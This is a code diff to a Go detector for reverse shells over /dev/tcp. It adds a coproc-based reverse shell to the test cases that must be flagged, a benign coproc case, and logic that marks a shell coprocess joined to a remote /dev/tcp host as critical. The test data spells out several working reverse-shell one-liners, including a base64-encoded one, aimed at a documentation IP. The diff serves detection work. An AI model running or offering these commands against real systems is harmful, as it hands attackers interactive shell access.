@@ -27,9 +27,11 @@ var shellDevtcp = Detector{
 		"R=198.51.100.7; P=4242; bash${IFS}-i >&/dev/tcp/$R/$P 0>&1",
 		"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDI0MiAwPiYx | base64 -d | bash",
 		"cp /bin/bash /tmp/k && /tmp/k -i >& /dev/tcp/198.51.100.7/1 0>&1",
+		"coproc bash -i; cat <&\"${COPROC[0]}\" >/dev/tcp/198.51.100.7/4444 & cat </dev/tcp/198.51.100.7/4445 >&\"${COPROC[1]}\"",
 		"python3 -c 'import os; os.system(\"bash -c \\\"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\\\"\")'",
 	),
 	Quiet: lines("",
+		"coproc bc; echo '1+1' >&\"${COPROC[1]}\"; cat <&\"${COPROC[0]}\" > /dev/tcp/198.51.100.7/80",
 		"cat < /dev/null > /dev/tcp/localhost/5432",
 		"timeout 1 bash -c '</dev/tcp/db/5432'",
 		"until (echo > /dev/tcp/redis/6379) 2>/dev/null; do sleep 1; done",
@@ -48,6 +50,9 @@ func devtcp(s *command.Simple, _ track.View) *Finding {
 	inNet := command.DevNet(in)
 	for _, p := range s.Stdin {
 		inNet = inNet || command.DevNet(p.FDs[0]) || readsDevNet(p)
+	}
+	if sh, ok := strings.CutPrefix(in, "coproc:"); ok && command.DevNet(out) && program.ClassOf(sh) == program.Shell && !command.Loopback(command.DevNetHost(out)) {
+		return say(s, coi.Critical, "coprocess of a shell joined to "+strings.TrimPrefix(out, "/dev/")).to(command.DevNetHost(out))
 	}
 	if !command.DevNet(out) {
 		return nil
